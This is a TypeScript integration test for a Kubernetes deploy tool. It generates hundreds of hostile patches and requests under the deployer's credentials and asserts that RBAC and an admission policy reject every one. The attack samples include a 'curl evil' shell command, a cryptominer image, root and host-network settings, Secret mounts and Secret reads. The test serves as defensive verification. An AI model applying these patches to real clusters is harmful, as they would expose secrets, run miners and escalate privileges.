import { PatchStrategy, setHeaderOptions, type V1Deployment } from "@kubernetes/client-node";
import { ConflictError, DeployLabel } from "@slipway/core";
import { createKubeWorkloads, pointerToken } from "@slipway/kube";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bootstrapImage } from "../../infra/settings.ts";
import { guardedStage } from "../integration/k8s/guarded-stage.ts";
import { drillSeed, formName, longForm, recordDrill, seededRandom } from "./support/drill-form.ts";

/**
 * The deployer identity as an attacker who holds its credentials: generated rewrites of the
 * pod template (strategic merge, JSON merge and JSON patches), other Deployments, other
 * namespaces, Secrets and other verbs, interleaved with the deployer's own rollouts, against
 * the production stage's Role and admission policy on the real local control plane.
 */
const attempts = longForm ? 600 : 120;
const namespace = "drill-deployer";
const registry = "123456789012.dkr.ecr.us-east-1.amazonaws.com/slipway-production";
const stage = guardedStage(namespace, registry);
const { adminApps, apps, core, deployer } = stage;
const strategic = setHeaderOptions("Content-Type", PatchStrategy.StrategicMergePatch);
const merge = setHeaderOptions("Content-Type", PatchStrategy.MergePatch);
const jsonPatch = setHeaderOptions("Content-Type", PatchStrategy.JsonPatch);

type Attack = { category: string; expected: 403 | 422; run: () => Promise<unknown> };

/** The Deployment as the deployer may not change it: everything but images and the high-water. */
const withoutImages = (d: V1Deployment) => {
  const copy = structuredClone(d.spec);
  for (const c of copy?.template.spec?.containers ?? []) c.image = "";
  const { [DeployLabel.highWater]: _highWater, ...labels } = d.metadata?.labels ?? {};
  return { spec: copy, labels };
};
const highWaterPath = `/metadata/labels/${pointerToken(DeployLabel.highWater)}`;

function generateAttacks(random: () => number): Attack[] {
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const hex = (n: number) =>
    Array.from({ length: n }, () => Math.floor(random() * 16).toString(16)).join("");
  const name = () => pick(["chat-server", "chat-web"]);
  const container = (deployment: string) => (deployment === "chat-server" ? "server" : "web");
  const patch =
    (body: object, options = strategic, target = name()) =>
    () =>
      apps.patchNamespacedDeployment({ name: target, namespace, body }, options);
  const inContainer = (fields: Record<string, unknown>) => {
    const target = name();
    return patch(
      { spec: { template: { spec: { containers: [{ name: container(target), ...fields }] } } } },
      strategic,
      target,
    );
  };
  const templateRewrites: Array<() => Attack["run"]> = [
    () => inContainer({ env: [{ name: `X_${hex(4)}`, value: hex(8) }] }),
    () =>
      inContainer({ envFrom: [{ secretRef: { name: pick(["chat-token", "chat-database"]) } }] }),
    () =>
      inContainer({
        command: pick([
          ["sh", "-c", "curl evil"],
          ["node", "-e", hex(6)],
        ]),
      }),
    () => inContainer({ args: ["--inspect=0.0.0.0:9229"] }),
    () => inContainer({ securityContext: { runAsNonRoot: false, runAsUser: 0 } }),
    () => inContainer({ resources: { limits: { memory: "64Gi" } } }),
    () => inContainer({ image: `docker.io/attacker/miner@sha256:${hex(64)}` }),
    () => inContainer({ image: `${registry}-evil@sha256:${hex(64)}` }),
    () => inContainer({ image: `${registry}:${pick(["latest", "main", hex(7)])}` }),
    () => inContainer({ image: `${registry}@sha256:${hex(12)}` }),
    () =>
      patch({
        spec: {
          template: {
            spec: { volumes: [{ name: `loot-${hex(3)}`, secret: { secretName: "chat-token" } }] },
          },
        },
      }),
    () =>
      patch({
        spec: {
          template: {
            spec: {
              containers: [{ name: `miner-${hex(3)}`, image: `${registry}@sha256:${hex(64)}` }],
            },
          },
        },
      }),
    () =>
      patch({
        spec: { template: { spec: { initContainers: [{ name: "init", image: bootstrapImage }] } } },
      }),
    () => patch({ spec: { template: { spec: { serviceAccountName: "default" } } } }),
    () => patch({ spec: { template: { spec: { hostNetwork: true } } } }),
    () => patch({ spec: { template: { spec: { nodeSelector: { "attacker/node": "1" } } } } }),
    () => patch({ spec: { template: { metadata: { annotations: { [`x.io/${hex(4)}`]: "y" } } } } }),
    () => patch({ spec: { replicas: 50 + Math.floor(random() * 50) } }),
    () => patch({ metadata: { labels: { "app.kubernetes.io/part-of": hex(5) } } }),
    () => patch({ metadata: { annotations: { "example.com/owner": hex(6) } } }),
    () =>
      patch(
        {
          spec: {
            template: {
              spec: {
                containers: [{ name: "server", image: `${registry}@sha256:${hex(64)}`, env: [] }],
              },
            },
          },
        },
        merge,
        "chat-server",
      ),
    () =>
      patch(
        [
          {
            op: "add",
            path: "/spec/template/spec/containers/0/env/-",
            value: { name: "X", value: hex(4) },
          },
        ],
        jsonPatch,
      ),
    () =>
      patch(
        [{ op: "replace", path: "/spec/template/spec/containers/0/command", value: ["sh"] }],
        jsonPatch,
      ),
    () =>
      patch({ metadata: { labels: { [DeployLabel.highWater]: pick(["0", "-3", "abc", ""]) } } }),
    () => patch([{ op: "replace", path: highWaterPath, value: "1" }], jsonPatch),
    () => patch([{ op: "remove", path: highWaterPath }], jsonPatch),
  ];
  const elsewhere: Array<() => Attack["run"]> = [
    () => patch({ metadata: { annotations: { "slipway.dev/x": "1" } } }, strategic, "intruder"),
    () => () => apps.readNamespacedDeployment({ name: "intruder", namespace }),
    () => () =>
      apps.patchNamespacedDeployment(
        { name: name(), namespace: pick(["default", "kube-system"]), body: {} },
        strategic,
      ),
    () => () => core.listNamespacedSecret({ namespace }),
    () => () =>
      core.readNamespacedSecret({ name: pick(["chat-token", "chat-database"]), namespace }),
    () => () =>
      core.createNamespacedSecret({ namespace, body: { metadata: { name: `s-${hex(4)}` } } }),
    () => () => apps.deleteNamespacedDeployment({ name: name(), namespace }),
    () => () =>
      apps.createNamespacedDeployment({
        namespace,
        body: {
          metadata: { name: `new-${hex(4)}` },
          spec: {
            selector: { matchLabels: { a: "b" } },
            template: {
              metadata: { labels: { a: "b" } },
              spec: { containers: [{ name: "x", image: bootstrapImage }] },
            },
          },
        },
      }),
    () => () =>
      apps.patchNamespacedDeploymentScale(
        { name: name(), namespace, body: { spec: { replicas: 0 } } },
        merge,
      ),
    () => () => core.listNamespacedPod({ namespace }),
  ];
  const labels = [
    "env var",
    "env from a Secret",
    "command",
    "args",
    "root user",
    "resource limits",
    "foreign registry",
    "look-alike repository",
    "tag instead of digest",
    "short digest",
    "Secret volume",
    "sidecar",
    "init container",
    "service account",
    "host network",
    "node selector",
    "template annotation",
    "replicas",
    "Deployment label",
    "foreign Deployment annotation",
    "merge patch with env",
    "JSON patch env",
    "JSON patch command",
    "high-water label not a sequence",
    "high-water label lowered",
    "high-water label removed",
  ];
  const otherLabels = [
    "another Deployment: patch",
    "another Deployment: get",
    "another namespace",
    "Secrets: list",
    "Secrets: get",
    "Secrets: create",
    "delete",
    "create a Deployment",
    "scale subresource",
    "pods: list",
  ];
  return Array.from({ length: attempts }, (_, i) => {
    if (i % 3 === 2) {
      const k = Math.floor(random() * elsewhere.length);
      return {
        category: `RBAC: ${otherLabels[k]}`,
        expected: 403,
        run: (elsewhere[k] as () => Attack["run"])(),
      };
    }
    const k = Math.floor(random() * templateRewrites.length);
    return {
      category: `template: ${labels[k]}`,
      expected: 422,
      run: (templateRewrites[k] as () => Attack["run"])(),
    };
  });
}

beforeAll(async () => {
  await stage.apply();
  await stage.createIntruder();
}, 180_000);

afterAll(() => stage.remove());

describe(`deployer abuse drill (${formName} form)`, () => {
  it(`refuses ${attempts} rewrites and reaches beyond the deployer's two Deployments, while its own rollouts go through`, async () => {
    // Prepare
    const seed = drillSeed();
    const attacks = generateAttacks(seededRandom(seed));
    const workloads = createKubeWorkloads({ config: deployer, watchSeconds: 5 });
    // The deployer's first patch sets the label (any sequence, as a first deploy may): only
    // once it is there can an attack lower it. #10 sits below the drill's rollouts (#20, #40…).
    for (const [name, container] of [
      ["chat-server", "server"],
      ["chat-web", "web"],
    ] as const) {
      const target = { namespace, name, container };
      const state = await workloads.read(target);
      await workloads.setImage(target, {
        image: `${registry}@sha256:${"a".repeat(64)}`,
        resourceVersion: state.resourceVersion,
        highWater: 10,
        annotations: { "slipway.dev/sequence": "10" },
      });
    }
    const before = await Promise.all(
      ["chat-server", "chat-web"].map((name) =>
        adminApps.readNamespacedDeployment({ name, namespace }),
      ),
    );

    // Act: attacks in order, a legitimate rollout of both Deployments after every 20.
    const results: Array<{ category: string; expected: number; status: number }> = [];
    let rollouts = 0;
    let guarded = 0;
    let rolloutFailures = 0;
    const started = performance.now();
    for (const [i, attack] of attacks.entries()) {
      let status = 200;
      try {
        await attack.run();
      } catch (error) {
        status = (error as { code?: number }).code ?? 0;
      }
      results.push({ category: attack.category, expected: attack.expected, status });
      if (i % 20 === 19) {
        const image = `${registry}@sha256:${(i + 1).toString(16).padStart(64, "0")}`;
        for (const [name, container] of [
          ["chat-server", "server"],
          ["chat-web", "web"],
        ] as const) {
          const target = { namespace, name, container };
          // As the deployer does: a patch guarded by the high-water it set last, else read,
          // patch with the resourceVersion, and read again on a conflict (the controller's
          // status writes move the version too).
          const change = {
            image,
            highWater: i + 1,
            annotations: { "slipway.dev/sequence": String(i + 1) },
          };
          let done = false;
          if (rollouts >= 2) {
            done = await workloads.setImage(target, { ...change, whileHighWater: i + 1 - 20 }).then(
              () => true,
              (error: unknown) => (error instanceof ConflictError ? false : Promise.reject(error)),
            );
            if (done) guarded += 1;
          }
          for (let attempt = 0; attempt < 5 && !done; attempt++) {
            try {
              const state = await workloads.read(target);
              await workloads.setImage(target, {
                ...change,
                resourceVersion: state.resourceVersion,
              });
              done = true;
            } catch (error) {
              if (!(error instanceof ConflictError)) break;
            }
          }
          if (done) rollouts += 1;
          else rolloutFailures += 1;
        }
      }
    }
    const seconds = (performance.now() - started) / 1000;

    // Assess
    const after = await Promise.all(
      ["chat-server", "chat-web"].map((name) =>
        adminApps.readNamespacedDeployment({ name, namespace }),
      ),
    );
    const admitted = results.filter((r) => r.status < 300);
    const wrong = results.filter((r) => r.status !== r.expected);
    const drifted = after.filter((d, i) => {
      const original = before[i] as V1Deployment;
      return JSON.stringify(withoutImages(d)) !== JSON.stringify(withoutImages(original));
    });
    const byCategory = new Map<string, number>();
    for (const r of results)
      byCategory.set(
        `${r.status} ${r.category}`,
        (byCategory.get(`${r.status} ${r.category}`) ?? 0) + 1,
      );
    recordDrill(
      "deployer-abuse",
      {
        id: "drill-deployer-abuse",
        title: `Deployer abuse drill (${formName} form)`,
        method:
          `${attacks.length} generated requests with the deploy function's own credentials (group slipway:deployers) ` +
          "against the production stage's Role and ValidatingAdmissionPolicy on the local control plane: pod " +
          "template rewrites (env, Secrets as env or volume, command, root, sidecars, init containers, service " +
          "account, host network, foreign, look-alike, tagged and short images, replicas, labels, annotations) by " +
          "strategic merge, merge and JSON patch, and other Deployments, namespaces, Secrets, pods and verbs; " +
          `a real rollout of both Deployments after every 20. Seed ${seed}.`,
        rows: [
          { name: "attacks", unit: "requests", median: attacks.length },
          {
            name: "refused by the admission policy (422)",
            unit: "requests",
            median: results.filter((r) => r.status === 422).length,
          },
          {
            name: "refused by RBAC (403)",
            unit: "requests",
            median: results.filter((r) => r.status === 403).length,
          },
          { name: "attacks admitted", unit: "requests", median: admitted.length },
          {
            name: "own rollouts admitted",
            unit: "patches",
            median: rollouts,
            note: `${rolloutFailures} refused; ${guarded} of them JSON patches guarded by the high-water label, with no read`,
          },
          {
            name: "Deployments changed beyond their image",
            unit: "Deployments",
            median: drifted.length,
          },
          { name: "throughput", unit: "requests/s", median: attacks.length / seconds },
        ],
      },
      `${attacks.length} attacks in ${seconds.toFixed(1)} s, seed ${seed}; ` +
        [...byCategory].map(([k, n]) => `${n}×${k}`).join(", "),
    );

    expect(wrong.slice(0, 5)).toEqual([]);
    expect(admitted).toEqual([]);
    expect(rolloutFailures).toBe(0);
    expect(rollouts).toBe(Math.floor(attacks.length / 20) * 2);
    expect(drifted).toEqual([]);
    // No attack moved the guard: it is the last rollout's sequence.
    const last = String(Math.floor(attacks.length / 20) * 20);
    expect(after.map((d) => d.metadata?.labels?.[DeployLabel.highWater])).toEqual([last, last]);
    expect(guarded).toBe(rollouts - 2);
    const images = after.map((d) => d.spec?.template.spec?.containers[0]?.image);
    expect(images.every((image) => image?.startsWith(`${registry}@sha256:`))).toBe(true);
  });
});
